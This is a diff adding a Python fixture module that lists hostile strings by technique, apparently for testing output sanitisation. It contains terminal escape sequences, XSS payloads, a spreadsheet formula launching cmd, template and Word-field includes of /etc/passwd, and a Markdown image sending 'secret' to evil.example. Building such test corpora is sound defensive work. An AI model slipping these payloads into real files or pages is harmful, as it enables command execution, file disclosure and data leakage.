@@ -1,0 +1,38 @@
+"""Strings that some terminal, reader, spreadsheet or library would act upon, by what they try."""
+
+__all__ = ["HOSTILE"]
+
+HOSTILE = {
+    "clipboard": "\x1b]52;c;ZXZpbA==\x07 copied",
+    "screen": "\x1b[2J\x1b[H cleared",
+    "terminal link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "C1": "\x9b31m red \x9d0;title\x9c",
+    "rich markup": "[/b] [link=http://evil.example]click[/link] [bold red]x[/]",
+    "bidi": "\u202egnirts desrever\u202c \u2066isolated\u2069",
+    "invisible": "zero\u200bwidth tag\U000e0041s \U000e0101 selector \u206aold",
+    "DOCX": "nul\x00 esc\x1b vt\x0b non\ufffe character\uffff",
+    "line ends": "one\r\ntwo\u2028three\u2029four\x85five\nsix",
+    "image": "![x](http://evil.example/p?d=secret)",
+    "link": "[click](javascript:alert(1)) <http://evil.example> http://evil.example",
+    "reference": "[a]: http://evil.example 'x'",
+    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- &lt;b&gt;",
+    "attribute": "\" onmouseover=\"alert(1)\" x='",
+    "heading": "# a | b\n\n## c",
+    "list": "- item",
+    "fence": "``` html",
+    "table": "a | b || c",
+    "formula": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": " -2+3",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+    "nul": "\x00=1+1",
+    "full width": "＝1+1",
+    "other separator": "dead;=1+1",
+    "quoted formula": '"=1+1',
+    "template": "{{ 7*7 }} {% include '/etc/passwd' %} {{note}}",
+    "PDF markup": "<a href='http://evil.example'>x</a> <font name='nowhere'>y</font> <img src='/etc/passwd'/>",
+    "field": '{ HYPERLINK "http://evil.example" } INCLUDETEXT /etc/passwd',
+    "emoji": "👩🏽‍🚒 flag 🇺🇳",
+}  # fmt: skip
